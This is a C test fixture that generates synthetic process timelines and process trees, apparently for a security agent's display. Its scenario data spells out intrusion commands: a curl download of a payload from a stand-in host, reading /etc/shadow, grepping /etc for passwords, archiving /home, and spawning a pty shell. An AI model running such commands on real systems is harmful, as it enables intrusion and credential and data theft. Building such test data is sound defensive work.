#include "tests/unit/timeline/synthetic.h"

#include <stdio.h>
#include <stdlib.h>

#include "agent/base/cleanup.h"
#include "agent/base/clock.h"

#define BEGIN INT64_C(1795164840000) /* 2026-11-20 08:54:00 */

/* A generator of our own: rand() differs between C libraries, pictures must not. */
static uint32_t next(uint32_t *state)
{
	*state = *state * 1664525 + 1013904223;
	return *state >> 8;
}

static void add_event(struct synthetic *s, int64_t ms, uint32_t child, enum event_category c)
{
	s->events = realloc(s->events, (s->n_events + 1) * sizeof(*s->events));
	if (!s->events)
		abort();
	s->events[s->n_events++] = (struct synthetic_event){ ms, child, c };
	if (child == 0)
		s->process.by_category[c]++;
}

static int by_time(const void *a, const void *b)
{
	const struct synthetic_event *x = a, *y = b;

	return (x->ms > y->ms) - (x->ms < y->ms);
}

static struct synthetic *new_synthetic(int64_t from, int64_t to)
{
	struct synthetic *s = calloc(1, sizeof(*s));

	if (!s)
		abort();
	s->range = (struct reader_range){ from, to };
	s->process = (struct reader_process){ .id = 1, .pid = 4711, .start_ms = from, .end_ms = to, .start_known = true,
		                              .images = s->images };
	return s;
}

static void add_child(struct synthetic *s, const char *name, const char *args, int64_t from, int64_t to, int exit)
{
	size_t i = s->n_children++;

	s->children = realloc(s->children, s->n_children * sizeof(*s->children));
	if (!s->children)
		abort();
	s->children[i] = (struct reader_node){ .process = (int64_t)i + 10, .parent = 1, .pid = 4712 + (int64_t)i,
		.start_ms = from, .end_ms = to, .exit_code = exit, .start_known = true, .name = span_of(name),
		.executable = span_of(name), .command_line = span_of(args), .user = SPAN("www-data") };
	s->process.children++;
}

struct synthetic *synthetic_story(void)
{
	static const struct { const char *name, *args; int from, to, exit; } kids[] = {
		{ "sh", "sh -c id", 12000, 13400, 0 }, { "id", "id -u", 12400, 12600, 0 },
		{ "uname", "uname -a", 30500, 30540, 0 }, { ".x", "/tmp/.x --daemon", 61000, 0, 0 },
		{ "cat", "cat /etc/shadow", 64000, 64100, 1 }, { "ls", "ls -la /root", 66000, 66050, 2 },
		{ "tar", "tar czf /tmp/o.tgz /home", 120000, 171000, 0 }, { "gzip", "gzip", 120300, 170800, 0 },
		{ "rm", "rm -f /tmp/o.tgz", 205000, 205100, 0 },
	};
	struct synthetic *s = new_synthetic(BEGIN, BEGIN + 240000);
	uint32_t seed = 7;

	s->images[0] = (struct reader_image){ .id = 1, .start_ms = BEGIN, .end_ms = BEGIN + 9000,
		.executable = SPAN("/usr/bin/bash"), .command_line = SPAN("bash -i") };
	s->images[1] = (struct reader_image){ .id = 2, .start_ms = BEGIN + 9000, .end_ms = BEGIN + 60000,
		.executable = SPAN("/usr/bin/curl"), .command_line = SPAN("curl -s http://203.0.113.9/x -o /tmp/.x") };
	s->images[2] = (struct reader_image){ .id = 3, .start_ms = BEGIN + 60000, .end_ms = BEGIN + 231000,
		.executable = SPAN("/usr/bin/python3.11"), .command_line = SPAN("python3 -c import pty") };
	s->process.n_images = 3;
	s->process.end_ms = BEGIN + 231000;
	s->process.exit_code = 1;
	for (size_t i = 0; i < ARRAY_LEN(kids); i++)
		add_child(s, kids[i].name, kids[i].args, BEGIN + kids[i].from, kids[i].to ? BEGIN + kids[i].to : 0,
		          kids[i].exit);
	for (int i = 0; i < 3; i++)
		add_event(s, BEGIN + (i ? 9000 : 0) + (i == 2) * 51000, 0, EVENT_PROCESS);
	for (int i = 0; i < 60; i++)
		add_event(s, BEGIN + 9500 + next(&seed) % 3000, 0, EVENT_FILE);
	for (int i = 0; i < 900; i++)
		add_event(s, BEGIN + 120500 + (next(&seed) % 25000 + next(&seed) % 25000), 0, EVENT_FILE);
	for (int i = 0; i < 400; i++)
		add_event(s, BEGIN + 120500 + next(&seed) % 50000, 7, EVENT_FILE);
	for (int i = 0; i < 14; i++)
		add_event(s, BEGIN + 62000 + next(&seed) % 160000, 4, i % 3 ? EVENT_NETWORK : EVENT_FILE);
	for (int i = 0; i < 18; i++)
		add_event(s, BEGIN + 10000 + i * i * 500, 0, EVENT_NETWORK);
	add_event(s, BEGIN + 3000, 0, EVENT_SECURITY);
	add_event(s, BEGIN + 64050, 0, EVENT_SECURITY);
	add_event(s, BEGIN + 64051, 0, EVENT_SECURITY);
	qsort(s->events, s->n_events, sizeof(*s->events), by_time);
	s->gaps[0] = (struct gap){ BEGIN + 180000, BEGIN + 198000, GAP_KERNEL_LOST, 212 };
	s->gaps[1] = (struct gap){ BEGIN + 221000, BEGIN + 221000, GAP_CLOCK_STEP, -1 };
	s->n_gaps = 2;
	return s;
}

struct synthetic *synthetic_many(size_t n_children, size_t n_events, int days)
{
	static const char *const names[] = { "sh", "sshd", "cron", "php-fpm8.2", "python3.11", "git", "gcc", "cc1" };
	int64_t span = days * MS_PER_DAY, at = BEGIN;
	struct synthetic *s = new_synthetic(BEGIN, BEGIN + span);
	uint32_t seed = 99;

	s->images[0] = (struct reader_image){ .id = 1, .start_ms = BEGIN - MS_PER_DAY, .executable = SPAN("/usr/sbin/init") };
	s->process.n_images = 1;
	s->process.start_known = false;
	s->process.end_ms = 0;
	for (size_t i = 0; i < n_children; i++) {
		int64_t life = 1 + (int64_t)(next(&seed) % 1000) * (next(&seed) % 3 ? 20 : (int)(span / 40000 + 1));

		at += span / (int64_t)n_children * (next(&seed) % 2000) / 1000;
		add_child(s, names[next(&seed) % 8], "child --of many", at, at + life, next(&seed) % 30 == 0);
	}
	s->events = calloc(n_events + 1, sizeof(*s->events));
	if (!s->events)
		abort();
	for (at = BEGIN; s->n_events < n_events; s->n_events++) {
		struct synthetic_event *e = &s->events[s->n_events];
		int64_t mean = span / (int64_t)n_events + 1;

		at += next(&seed) % 64 ? (int64_t)next(&seed) % (mean + 1) : (int64_t)next(&seed) % (mean * 60);
		e->ms = at < s->range.to_ms ? at : s->range.to_ms - 1;
		e->category = next(&seed) % 8 < 5 ? EVENT_FILE : next(&seed) % 3 ? EVENT_NETWORK : EVENT_PROCESS;
		if (next(&seed) % 5000 == 0)
			e->category = next(&seed) % 2 ? EVENT_SECURITY : EVENT_DRIVER;
		s->process.by_category[e->category]++;
	}
	s->gaps[0] = (struct gap){ BEGIN + span / 3, BEGIN + span / 3 + span / 30, GAP_NOT_RUNNING, -1 };
	s->n_gaps = 1;
	return s;
}

void synthetic_free(struct synthetic *s)
{
	free(s->children);
	free(s->events);
	free(s);
}

/* ---- answers ---- */

static uint64_t *bins(size_t n)
{
	uint64_t *counts = calloc(n, EVENT_CATEGORY_COUNT * sizeof(*counts));

	if (!counts)
		abort();
	return counts;
}

static size_t first_at(const struct synthetic *s, int64_t ms)
{
	size_t low = 0, high = s->n_events;

	while (low < high) {
		size_t mid = (low + high) / 2;

		if (s->events[mid].ms < ms)
			low = mid + 1;
		else
			high = mid;
	}
	return low;
}

static int by_mark(const void *a, const void *b)
{
	const struct reader_child_mark *x = a, *y = b;

	return x->child != y->child ? (x->child > y->child) - (x->child < y->child) : (x->bin > y->bin) - (x->bin < y->bin);
}

struct reader_timeline synthetic_timeline(const struct synthetic *s, struct reader_range range, size_t n_bins)
{
	int64_t bin = (range.to_ms - range.from_ms + (int64_t)n_bins - 1) / (int64_t)n_bins;
	struct reader_timeline t = {
		.bins = { range.from_ms, bin, n_bins, bins(n_bins) }, .child_bins = { range.from_ms, bin, n_bins, bins(n_bins) },
		.children = s->children, .n_children = s->n_children,
		.child_marks = calloc(READER_MAX_CHILD_MARKS, sizeof(*t.child_marks)),
	};

	for (size_t i = first_at(s, range.from_ms); i < s->n_events && s->events[i].ms < range.to_ms; i++) {
		const struct synthetic_event *e = &s->events[i];
		size_t at = (size_t)((e->ms - range.from_ms) / bin);

		if (e->child == 0) {
			t.bins.counts[at * EVENT_CATEGORY_COUNT + e->category]++;
			continue;
		}
		t.child_bins.counts[at * EVENT_CATEGORY_COUNT + e->category]++;
		if (t.n_child_marks < READER_MAX_CHILD_MARKS)
			t.child_marks[t.n_child_marks++] = (struct reader_child_mark){ e->child - 1, (uint32_t)at, e->category, 1 };
	}
	qsort(t.child_marks, t.n_child_marks, sizeof(*t.child_marks), by_mark);
	return t;
}

void synthetic_timeline_free(struct reader_timeline *t)
{
	free(t->bins.counts);
	free(t->child_bins.counts);
	free(t->child_marks);
}

static struct reader_node node(int64_t process, int64_t parent, const char *name, const char *command)
{
	return (struct reader_node){ .process = process, .parent = parent, .pid = 400 + process * 3,
		.start_ms = BEGIN + process * 10, .end_ms = BEGIN + process * 10 + 5000, .start_known = true,
		.name = span_of(name), .executable = span_of(name), .command_line = span_of(command), .user = SPAN("root") };
}

struct reader_tree synthetic_tree(size_t n_children, bool deep)
{
	static const char *const names[] = { "grep", "sed", "awk", "sleep", "curl", "rm", "mkdir", "python3.11", "id" };
	static const char *const commands[] = { "grep -r password /etc", "sed -i s/a/b/ /etc/passwd", "awk {print}", "sleep 5",
		"curl -s http://203.0.113.9/a-rather-long-path/that/does/not/fit", "rm -rf /tmp/x", "mkdir -p /tmp/.hidden",
		"python3 -m http.server 8000", "id" };
	static char sshd[37][40];
	struct reader_tree t = { .nodes = calloc(n_children + 64, sizeof(*t.nodes)), .n_ancestors = 3 };
	uint32_t seed = 5;

	if (!t.nodes)
		abort();
	t.nodes[t.n++] = node(500, 3, "bash", "bash -i");
	t.nodes[t.n++] = node(3, 2, "sshd", "sshd: alice@pts/0");
	t.nodes[t.n++] = node(2, 1, "sshd", "/usr/sbin/sshd -D");
	t.nodes[t.n++] = node(1, 0, "systemd", "/sbin/init splash");
	t.nodes[t.n++] = node(480, 3, "sftp-server", "/usr/lib/openssh/sftp-server");
	t.nodes[t.n++] = node(490, 3, "scp", "scp -t /tmp/x.tgz");
	t.nodes[t.n++] = node(510, 3, "bash", "bash -c uptime");
	t.n_peers = 3;
	for (size_t i = 0; i < n_children; i++) {
		size_t k = next(&seed) % 9;
		int64_t parent = deep && i > 4 ? 1000 + (int64_t)((i - 5) / 6) : 500;

		t.nodes[t.n] = node(1000 + (int64_t)i, parent, names[k], commands[k]);
		t.nodes[t.n].exit_code = next(&seed) % 6 == 0;
		t.nodes[t.n++].signal = next(&seed) % 15 == 0 ? 9 : 0;
	}
	for (int i = 0; i < 37; i++) {
		snprintf(sshd[i], sizeof(sshd[i]), "sh -c ping -c1 10.0.0.%d", i + 1);
		t.nodes[t.n++] = node(9000000 + i, 500, "sh", sshd[i]);
	}
	t.children_left_out = n_children > 10 ? 1204 : 0;
	return t;
}

void synthetic_tree_free(struct reader_tree *t)
{
	free(t->nodes);
}
